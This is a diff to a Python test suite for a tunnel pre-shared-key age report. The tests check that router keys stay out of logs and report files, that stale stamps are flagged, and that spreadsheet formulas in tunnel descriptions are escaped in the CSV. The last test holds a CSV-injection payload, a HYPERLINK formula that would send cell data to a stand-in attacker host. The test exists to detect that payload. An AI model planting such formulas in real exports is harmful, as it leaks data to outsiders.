@@ -27,10 +27,15 @@ def inventory(path, routers, confdirs):
     return path
 
 
+ROUTER_KEY = "router-held-key-never-to-be-read-0123"  # what the router's file holds; no run may show it
+
+
 def write_stamp(confdir, name, stamp):
+    """The router's swanctl file as the tunnel_psk role writes it: the stamp line, then the key (base64)."""
     confdir.mkdir(parents=True, exist_ok=True)
-    # As the role records it: the stamp line in the file that holds the key (no key needed for the report).
-    (confdir / f"cloudflare-{name}.conf").write_text(f"# cloudflare.magic psk {stamp}\n")
+    (confdir / f"cloudflare-{name}.conf").write_text(
+        f"# cloudflare.magic psk {stamp}\nsecrets {{\n  ike-cloudflare-{name} {{\n"
+        f"    secret = 0s{base64.b64encode(ROUTER_KEY.encode()).decode()}\n  }}\n}}\n")
 
 
 def edge_stamp(tunnel):
@@ -90,7 +95,7 @@ def test_the_report_and_its_csv_match_the_emulator(playbooks, emulator, tmp_path
     assert "tunnel_nyc_01 (" not in stale_section
     assert "| 5 | 3 | 1 | 2 | tunnel_nyc_01b (" in report
 
-    secrets = [playbooks.token, *emulator.bgp_md5_keys()]
+    secrets = [playbooks.token, *emulator.bgp_md5_keys(), ROUTER_KEY, base64.b64encode(ROUTER_KEY.encode()).decode()]
     assert run.hits(*secrets) == 0
     assert sum((folder / name).read_text().count(s) for name in ("psk-age-report.md", "psk-age-report.csv")
                for s in secrets) == 0
@@ -129,3 +134,50 @@ def test_rotate_overdue_rotates_routers_overdue_tunnels_and_keeps_keys_out_of_th
     assert sum((folder / name).read_text().count(k) for name in ("psk-age-report.md", "psk-age-report.csv")
                for k in keys) == 0
     assert "tunnel_fra_01" in (folder / "psk-age-report.md").read_text()
+
+
+def test_a_router_the_role_just_rotated_is_not_reported_stale(playbooks, emulator, tmp_path):
+    """The role keeps the stamp in the router's swanctl file, next to the key, and removes the stamp file of
+    older versions: the report reads the stamp from there (only that line leaves the router)."""
+    by_name = {t["name"]: t for t in emulator.tunnels(emulator.account_id)}
+    routers = {"router-fra": "tunnel_fra_01"}
+    stamps = {"router-fra": edge_stamp(by_name["tunnel_fra_01"])}
+    first, _folder, _confdirs = run_report(playbooks, emulator, tmp_path, routers, stamps, rotate_overdue=True)
+    assert first.returncode == 0 and len(bulk_posts(emulator)) == 1, first.stdout[-3000:]
+    again, folder, _confdirs = run_report(playbooks, emulator, tmp_path, routers, {})
+    assert again.returncode == 0, again.stdout[-3000:]
+    fra = next(r for r in csv_rows(folder) if r["name"] == "tunnel_fra_01")
+    assert (fra["overdue"], fra["router_stale"]) == ("false", "false"), fra
+    assert again.hits(*emulator.generated_psks(), ROUTER_KEY) == 0
+
+
+def test_a_stamp_the_role_marked_unverified_is_reported_stale(playbooks, emulator, tmp_path):
+    """After a failed hand-off the role writes "# cloudflare.magic psk unverified": that router is stale,
+    and the report of every other tunnel still comes out."""
+    routers = {"router-nyc": "tunnel_nyc_01", "router-sin": "tunnel_sin_01"}
+    by_name = {t["name"]: t for t in emulator.tunnels(emulator.account_id)}
+    stamps = {"router-nyc": "unverified", "router-sin": edge_stamp(by_name["tunnel_sin_01"])}
+    run, folder, _confdirs = run_report(playbooks, emulator, tmp_path, routers, stamps)
+    assert run.returncode == 0, run.stdout[-3000:]
+    stale = {r["name"]: r["router_stale"] for r in csv_rows(folder)}
+    assert (stale["tunnel_nyc_01"], stale["tunnel_sin_01"]) == ("true", "false")
+
+
+def test_a_description_that_is_a_spreadsheet_formula_stays_text_in_the_csv(tmp_path):
+    """A tunnel's name and description are free text of whoever may edit tunnels; a CSV cell that starts with
+    = + - @ is run as a formula by spreadsheet programs (CSV injection). Such a cell gets a leading quote."""
+    from cf_emulator import Emulator, default_seed
+    from support.playbooks import PlaybookRunner
+
+    seed = default_seed()
+    formula = '=HYPERLINK("https://attacker.example/?"&A1,"details")'
+    seed["accounts"][0]["tunnels"][0]["description"] = formula
+    emulator = Emulator(seed=seed, tls=True, state_dir=str(tmp_path / "emulator")).start()
+    try:
+        run, folder, _confdirs = run_report(PlaybookRunner(tmp_path / "run", emulator), emulator, tmp_path, {}, {})
+    finally:
+        emulator.stop()
+    assert run.returncode == 0, run.stdout[-3000:]
+    descriptions = [r["description"] for r in csv_rows(folder)]
+    assert "'" + formula in descriptions
+    assert not any(cell[:1] in "=+-@" for row in csv_rows(folder) for cell in row.values() if cell), descriptions
